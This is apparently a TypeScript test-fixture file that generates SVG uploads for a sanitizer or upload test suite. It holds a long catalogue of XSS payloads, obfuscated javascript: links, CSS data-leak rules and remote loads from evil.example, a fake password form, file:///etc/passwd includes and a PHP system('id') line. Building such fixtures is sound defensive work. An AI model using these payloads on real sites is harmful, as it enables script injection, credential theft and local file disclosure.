import type { HostileFile } from './hostile-file.ts';

const evil = 'https://evil.example';
const code = 'alert(document.domain)';
const shape = '<rect width="9" height="9"/>';
const image = `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`).toString('base64')}`;

/** The content of the SVGs, next to a shape. */
const bodies: readonly [string, string][] = [
  ['a script', `<script>${code}</script>`],
  ['a script of another type', `<script type="application/ecmascript">${code}</script>`],
  ['a script in CDATA', `<script><![CDATA[${code}]]></script>`],
  ['a script elsewhere', `<script href="${evil}/x.js"/>`],
  ['a script elsewhere, the old way', `<script xlink:href="${evil}/x.js"/>`],
  ['a script at a data: address', `<script href="data:text/javascript,${code}"/>`],
  ['a script in capitals', `<SCRIPT>${code}</SCRIPT>`],
  ['a script with a slash', `<script/x>${code}</script>`],
  ['a script in a script', `<scr<script>ipt>${code}</scr</script>ipt>`],
  [
    'a script of the namespace',
    `<s:script xmlns:s="http://www.w3.org/2000/svg">${code}</s:script>`,
  ],
  ['a script of HTML', `<script xmlns="http://www.w3.org/1999/xhtml">${code}</script>`],
  [
    'a script of HTML with a prefix',
    `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${code}</h:script>`,
  ],
  [
    'an image of HTML that is not there',
    `<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="${code}"/>`,
  ],
  [
    'a frame of HTML',
    `<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="javascript:${code}"/>`,
  ],
  ['a script nobody closes', `<script>${code}`],
  ['an onload', `<g onload="${code}">${shape}</g>`],
  ['an onload in mixed case', `<g oNlOaD="${code}">${shape}</g>`],
  ['an onload without quotes', `<g onload=${code}>${shape}</g>`],
  ['an onload after a slash', `<g/onload="${code}">${shape}</g>`],
  ['an onload after a new line', `<g x="1"\n\t\fonload\n=\n"${code}">${shape}</g>`],
  [
    'an onload with a prefix',
    `<g xmlns:a="http://www.w3.org/2000/svg" a:onload="${code}">${shape}</g>`,
  ],
  ['an onload in an inner SVG', `<svg onload="${code}">${shape}</svg>`],
  ['an onclick', `<rect width="9" height="9" onclick="${code}"/>`],
  ['an onfocusin', `<rect width="9" height="9" tabindex="0" autofocus="" onfocusin="${code}"/>`],
  ['an onmouseover with entities', `<rect width="9" height="9" onmouseover="&#97;&#x6c;ert(1)"/>`],
  ['an onbegin', `<animate onbegin="${code}" attributeName="x" dur="1s"/>`],
  ['an onend', `<set onend="${code}" attributeName="x" to="1" dur="1s"/>`],
  [
    'an onrepeat',
    `<animateTransform onrepeat="${code}" attributeName="transform" repeatCount="9" dur="1s"/>`,
  ],
  ['an onbegin of a motion', `<animateMotion onbegin="${code}" dur="1s" path="M0 0"/>`],
  ['an onbegin of a discard', `<discard onbegin="${code}"/>`],
  ['an onerror of an image', `<image href="x:" onerror="${code}"/>`],
  ['an event that comes later', `<rect width="9" height="9" onpointerrawupdate="${code}"/>`],
  [
    'a listener of XML events',
    `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/><handler id="h">${code}</handler>`,
  ],
  ['a javascript: link', `<a href="javascript:${code}">${shape}</a>`],
  ['a javascript: link, the old way', `<a xlink:href="javascript:${code}">${shape}</a>`],
  ['a javascript: link in mixed case', `<a href="JaVaScRiPt:${code}">${shape}</a>`],
  ['a javascript: link with entities', `<a href="&#106;avascript&#58;${code}">${shape}</a>`],
  ['a javascript: link with a tab', `<a href="java&#9;script:${code}">${shape}</a>`],
  ['a javascript: link with a new line', `<a href="&#10;java&#13;script:${code}">${shape}</a>`],
  ['a javascript: link after a space', `<a href=" &#32;javascript:${code}">${shape}</a>`],
  ['a javascript: link after a control sign', `<a href="&#x1;javascript:${code}">${shape}</a>`],
  [
    'a javascript: link with a prefix of its own',
    `<a xmlns:l="http://www.w3.org/1999/xlink" l:href="javascript:${code}">${shape}</a>`,
  ],
  ['a link to a vbscript:', `<a href="vbscript:msgbox(1)">${shape}</a>`],
  [
    'a link to a page in itself',
    `<a href="data:text/html,&lt;script&gt;${code}&lt;/script&gt;">${shape}</a>`,
  ],
  ['a link elsewhere', `<a href="${evil}" target="_top" ping="${evil}/p">${shape}</a>`],
  ['a javascript: base', `<g xml:base="javascript:${code}//"><a href="#">${shape}</a></g>`],
  [
    'an animated link',
    `<a href="#a">${shape}<animate attributeName="href" values="javascript:${code}"/></a>`,
  ],
  [
    'an animated link, the old way',
    `<a href="#a">${shape}<animate attributeName="xlink:href" begin="0s" from="#" to="javascript:${code}"/></a>`,
  ],
  ['a set link', `<a>${shape}<set attributeName="href" to="javascript:${code}"/></a>`],
  [
    'a set link from afar',
    `<a id="l">${shape}</a><set href="#l" attributeName="href" to="javascript:${code}"/>`,
  ],
  [
    'a set onclick',
    `<rect width="9" height="9"><set attributeName="onclick" to="${code}"/></rect>`,
  ],
  [
    'an animated image',
    `<image href="#"><animate attributeName="href" to="${evil}/x.png"/></image>`,
  ],
  [
    'an animated style',
    `<rect width="9" height="9"><set attributeName="style" to="fill:url(${evil})"/></rect>`,
  ],
  ['an image elsewhere', `<image href="${evil}/x.png" width="9" height="9"/>`],
  [
    'an image elsewhere, the old way',
    `<image xlink:href="//evil.example/x.png" width="9" height="9"/>`,
  ],
  ['an image on this machine', `<image href="file:///etc/passwd" width="9" height="9"/>`],
  ['an image beside it', `<image href="../../admin" width="9" height="9"/>`],
  ['an image that is an SVG with a script', `<image href="${image}" width="9" height="9"/>`],
  ['an image that is a page', `<image href="data:text/html,${code}" width="9" height="9"/>`],
  ['an image with sources', `<image href="#" srcset="${evil}/x.png 2x"/>`],
  ['a use of an SVG elsewhere', `<use href="${evil}/x.svg#a"/>`],
  ['a use of an SVG in itself', `<use href="${image}#a"/>`],
  ['a use of an SVG beside it', `<use xlink:href="/media/other.svg#a"/>`],
  ['a pattern elsewhere', `<pattern id="p" xlink:href="${evil}/x.svg#p"/>`],
  ['a gradient elsewhere', `<linearGradient id="g" href="${evil}/x.svg#g"/>`],
  ['a filter with an image elsewhere', `<filter id="f"><feImage href="${evil}/x.png"/></filter>`],
  ['text along a path elsewhere', `<text><textPath href="${evil}/x.svg#t">t</textPath></text>`],
  ['text from elsewhere', `<text><tref xlink:href="file:///etc/passwd"/></text>`],
  [
    'a way from elsewhere',
    `<animateMotion dur="1s"><mpath href="${evil}/x.svg#m"/></animateMotion>`,
  ],
  ['a cursor from elsewhere', `<cursor id="c" xlink:href="${evil}/x.cur"/>`],
  [
    'a font from elsewhere',
    `<font-face><font-face-src><font-face-uri xlink:href="${evil}/x.svg#f"/></font-face-src></font-face>`,
  ],
  ['a colour profile from elsewhere', `<color-profile xlink:href="${evil}/x.icc" name="a"/>`],
  ['a fill from elsewhere', `<rect width="9" height="9" fill="url(${evil}/x.svg#p)"/>`],
  [
    'a fill from elsewhere in quotes',
    `<rect width="9" height="9" fill="url('//evil.example/x.svg#p') red"/>`,
  ],
  ['a mask from elsewhere', `<rect width="9" height="9" mask="url(${evil}/x.svg#m)"/>`],
  ['a filter from elsewhere', `<rect width="9" height="9" filter="url(${evil}/x.svg#f)"/>`],
  ['a cut from elsewhere', `<rect width="9" height="9" clip-path="url(${evil}/x.svg#c)"/>`],
  ['a marker from elsewhere', `<path d="M0 0L9 9" marker-end="url(&quot;${evil}/x.svg#m&quot;)"/>`],
  ['a style that imports', `<style>@import "${evil}/x.css";</style>`],
  ['a style that imports in disguise', `<style>@\\69mport url(${evil}/x.css);</style>`],
  [
    'a style that imports after a comment',
    `<style>@im/**/port "${evil}"; @import/**/"${evil}/x.css";</style>`,
  ],
  ['a style with an address', `<style>rect{fill:url(${evil}/x.svg#a)}</style>`],
  ['a style with an address in disguise', `<style>rect{fill:u\\72 l(${evil}/x.svg#a)}</style>`],
  ['a style with a font', `<style>@font-face{font-family:a;src:url(${evil}/x.woff)}</style>`],
  ['a style with a set of images', `<style>rect{background:image-set("${evil}/x.png" 1x)}</style>`],
  ['a style that reads what is typed', `<style>input[value^=a]{background:url(${evil}/a)}</style>`],
  ['a style with an expression', `<style>rect{width:expression(${code})}</style>`],
  [
    'a style with a binding',
    `<style>rect{-moz-binding:url(${evil}/x.xml#a);behavior:url(x.htc)}</style>`,
  ],
  ['a style that covers the page', `<style>*{position:fixed;inset:0;z-index:9999}</style>`],
  ['a style that ends early', `<style><![CDATA[</style><script>${code}</script>]]></style>`],
  [
    'a style with an image of HTML',
    `<style>&lt;/style&gt;&lt;img src=x onerror=${code}&gt;</style>`,
  ],
  ['an attribute of style', `<rect width="9" height="9" style="fill:url(${evil}/x.svg#a)"/>`],
  [
    'an attribute of style with entities',
    `<rect width="9" height="9" style="fill:&#117;rl(${evil}/x)"/>`,
  ],
  [
    'an attribute of style in disguise',
    `<rect width="9" height="9" style="background-image:\\75\\72\\6c(${evil}/x)"/>`,
  ],
  [
    'a page inside',
    `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${code}"/></foreignObject>`,
  ],
  [
    'a frame inside',
    `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${code}&lt;/script&gt;"/></foreignObject>`,
  ],
  [
    'a form inside',
    `<foreignObject width="9" height="9"><form xmlns="http://www.w3.org/1999/xhtml" action="${evil}"><input name="password"/></form></foreignObject>`,
  ],
  [
    'a page inside in small letters',
    `<foreignobject><img src="x" onerror="${code}"></foreignobject>`,
  ],
  ['an embedded object', `<embed src="javascript:${code}"/><object data="javascript:${code}"/>`],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=javascript:${code}"/>`],
  ['a base', `<base href="javascript:/a/-${code}///////"/>`],
  ['a style sheet elsewhere', `<link rel="stylesheet" href="${evil}/x.css"/>`],
  ['a video', `<video src="${evil}/x.mp4" onerror="${code}"/><audio src="x" onerror="${code}"/>`],
  ['a template', `<template shadowrootmode="open"><script>${code}</script></template>`],
  [
    'mathematics',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  ],
  ['mathematics with a link', `<math href="javascript:${code}">x</math>`],
  ['a title with a page', `<title><![CDATA[</title><script>${code}</script>]]></title>`],
  ['a description with a page', `<desc><img src="x" onerror="${code}"/></desc>`],
  [
    'a title that hides a style',
    `<title><style><!--</title><img title="--&gt;&lt;/style&gt;&lt;img src=x onerror=${code}&gt;"/></style></title>`,
  ],
  [
    'a noscript that hides',
    `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  ],
  ['a comment that ends early', `<!--><script>${code}</script>-->`],
  ['a comment that ends oddly', `<!--a--!><img src=x onerror=${code}>-->`],
  ['a CDATA that becomes markup', `<![CDATA[<script>${code}</script>]]>`],
  ['PHP', '<?php system("id"); ?>'],
  ['an instruction of HTML', `<?xml-stylesheet href="javascript:${code}"?>`],
  [
    'an include',
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
  ],
  ['names that clobber', '<g id="attributes"/><g id="documentElement"/><g name="parentNode"/>'],
  [
    'a switch',
    `<switch><foreignObject requiredExtensions="http://www.w3.org/1999/xhtml"><script>${code}</script></foreignObject>${shape}</switch>`,
  ],
];

/** Builds SVGs with content that a browser would run or fetch. */
export function scriptedSvgs(): HostileFile[] {
  return bodies.map(([what, body]) => ({
    name: `SVG: ${what}`,
    bytes: Buffer.from(
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">${shape}${body}</svg>`,
    ),
    fileName: 'image.svg',
    mayBeTaken: true,
    about: 'Opened by its address, an SVG is a document of this site.',
  }));
}
